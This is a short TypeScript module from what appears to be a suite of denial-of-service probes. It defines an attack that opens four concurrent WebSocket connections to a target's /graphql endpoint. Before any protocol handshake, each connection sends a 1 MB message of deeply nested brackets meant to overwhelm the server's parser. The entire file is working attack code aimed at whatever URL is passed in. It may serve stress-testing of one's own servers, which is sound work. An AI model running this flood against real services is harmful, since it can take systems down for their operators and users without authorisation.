/** The same over WebSocket: a message of brackets, before anything else was said. */
import WebSocket from 'ws';
import { flood, type Attack } from './attack.js';

const half = 500_000;
const nested = `${'['.repeat(half)}${']'.repeat(half)}`;

export const messages: Attack = {
  name: 'WebSocket messages of brackets, 1 MB',
  run: ({ url }) =>
    flood(4, () => {
      const socket = new WebSocket(`${url.replace('http', 'ws')}/graphql`, 'graphql-transport-ws');
      socket.on('open', () => socket.send(nested));
      return new Promise((resolve) => {
        socket.on('close', resolve).on('error', resolve);
      });
    }),
};
